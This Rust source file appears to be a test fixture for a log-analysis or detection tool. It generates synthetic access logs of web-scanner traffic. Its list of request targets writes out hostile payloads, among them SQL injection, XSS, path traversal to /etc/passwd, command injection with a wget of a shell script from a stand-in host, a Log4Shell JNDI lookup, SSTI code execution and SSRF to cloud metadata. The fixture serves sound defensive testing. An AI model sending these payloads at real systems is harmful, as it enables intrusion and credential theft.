//! An hour of scanners as an access log has it.

use std::fmt::Write as _;

use bartizan_model::{Clock, SystemClock, Timestamp};

use crate::access_log::log_time;
use crate::random::SplitMix;

/// Clients of the scan.
pub(crate) const SCANNERS: u64 = 50;

/// What scanners ask for; `{n}` stands for a number that changes. From the shapes that servers on the net see every day:
/// lists of files, and a few tries at each parameter that a page has.
const TARGETS: [&str; 40] = [
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/wp-login.php?v={n}",
    "/wp-content/plugins/p{n}/readme.txt",
    "/phpmyadmin{n}/index.php",
    "/backup-{n}.sql",
    "/site{n}.tar.gz",
    "/server-status?{n}",
    "/actuator/env?{n}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fshadow?{n}",
    "/download?file=../../../../../../etc/passwd%00{n}",
    "/page{n}?file=..%5c..%5c..%5cwindows%5cwin.ini",
    "/item{n}?id=1%27%20OR%20%271%27=%271",
    "/item{n}?id=1%20UNION%20ALL%20SELECT%20NULL,version(),NULL--%20-",
    "/item{n}?id=1%20AND%20(SELECT%20{n}%20FROM%20(SELECT(SLEEP(5)))a)",
    "/item?id={n}%27;WAITFOR%20DELAY%20%270:0:5%27--",
    "/search?q=%3Cscript%3Ealert({n})%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E",
    "/search?q=%3Csvg/onload=confirm({n})%3E",
    "/page{n}?next=javascript:alert(document.domain)",
    "/ping?host=127.0.0.1;cat%20/etc/passwd;{n}",
    "/ping{n}?host=%7Cid",
    "/export?name=%60wget%20http://203.0.113.5/{n}.sh%60",
    "/login?user=$%7Bjndi:ldap://203.0.113.5:1389/{n}%7D",
    "/preview?text=%7B%7B7*{n}%7D%7D",
    "/preview?text=$%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D&n={n}",
    "/fetch?url=http://169.254.169.254/latest/meta-data/?{n}",
    "/fetch{n}?url=file:///etc/passwd",
    "/fetch?url=gopher://127.0.0.1:6379/_INFO{n}",
    "/index.php?page=php://filter/convert.base64-encode/resource=config.php&n={n}",
    "/index.php?page=http://203.0.113.5/shell{n}.txt",
    "/index.php?s=/index/think%5Capp/invokefunction&function=phpinfo&vars[0]={n}",
    "/users?user[$ne]=x{n}&pass[$gt]=",
    "/users?filter=*)(uid=*))(%7C(uid=*{n}",
    "/go?to=%0d%0aSet-Cookie:%20a={n}",
    "/api?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA{n}",
    "/admin{n}/login.asp",
];

/// `count` lines that end now and began an hour ago, as [`SCANNERS`] clients send them, all at once and each for the
/// whole hour; every tenth line is of somebody who only looks at the shop.
pub(crate) fn hour_of_scanning(count: u64, random: &mut SplitMix) -> String {
    let hour = 3_600 * Timestamp::SECOND_MICROS;
    let start = SystemClock.now().plus_micros(-hour);
    let mut text = String::new();
    for number in 0..count {
        let passed =
            i64::try_from(u64::try_from(hour).unwrap_or(0) / count.max(1) * number).expect("an hour");
        let at = log_time(start.plus_micros(passed));
        let (client, target, status, agent) = if number % 10 == 9 {
            let target = format!("/products/{}?page={}", random.below(900), random.below(9));
            let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
            (ordinary_client(random.below(200)), target, 200, agent)
        } else {
            let index = usize::try_from(random.below(TARGETS.len() as u64)).expect("small");
            let target = TARGETS[index].replace("{n}", &random.below(5_000).to_string());
            (scanner(random.below(SCANNERS)), target, 404, "Mozilla/5.0 (compatible)")
        };
        writeln!(text, "{client} - - [{at}] \"GET {target} HTTP/1.1\" {status} 512 \"-\" \"{agent}\"")
            .expect("a String takes everything");
    }
    text
}

pub(crate) fn scanner(number: u64) -> String {
    format!("203.0.113.{number}")
}

fn ordinary_client(number: u64) -> String {
    format!("198.51.100.{number}")
}

/// Waves of a few clients each that attack one after another, so long apart that each client's attack is one of its own.
pub(crate) struct Waves {
    start: Timestamp,
}

/// Clients of one wave.
const PER_WAVE: u64 = 3;
/// Hits of each.
pub(crate) const HITS: u64 = 3;
/// Between two waves, by the time of the log: longer than what is grouped.
const APART_S: i64 = 950;

impl Waves {
    /// So many that the last one is now; all of them are news.
    pub(crate) fn ending_now(count: u64) -> Self {
        let span_s = APART_S * i64::try_from(count).expect("small");
        Self { start: SystemClock.now().plus_micros(-span_s * Timestamp::SECOND_MICROS) }
    }

    /// The lines of one wave.
    pub(crate) fn lines(&self, wave: u64) -> String {
        let mut text = String::new();
        for hit in 0..HITS {
            for client in Self::clients(wave) {
                let second =
                    APART_S * i64::try_from(wave).expect("small") + i64::try_from(hit).expect("small");
                let at = log_time(self.start.plus_micros(second * Timestamp::SECOND_MICROS));
                writeln!(
                    text,
                    "{client} - - [{at}] \"GET /item{hit}?id=1%20UNION%20ALL%20SELECT%20NULL,password,NULL%20FROM%20\
                     users--%20- HTTP/1.1\" 404 512 \"-\" \"Mozilla/5.0 (compatible)\""
                )
                .expect("a String takes everything");
            }
        }
        text
    }

    /// Who takes part in a wave.
    pub(crate) fn clients(wave: u64) -> impl Iterator<Item = String> {
        (0..PER_WAVE).map(move |client| format!("203.0.113.{}", wave * PER_WAVE + client))
    }
}
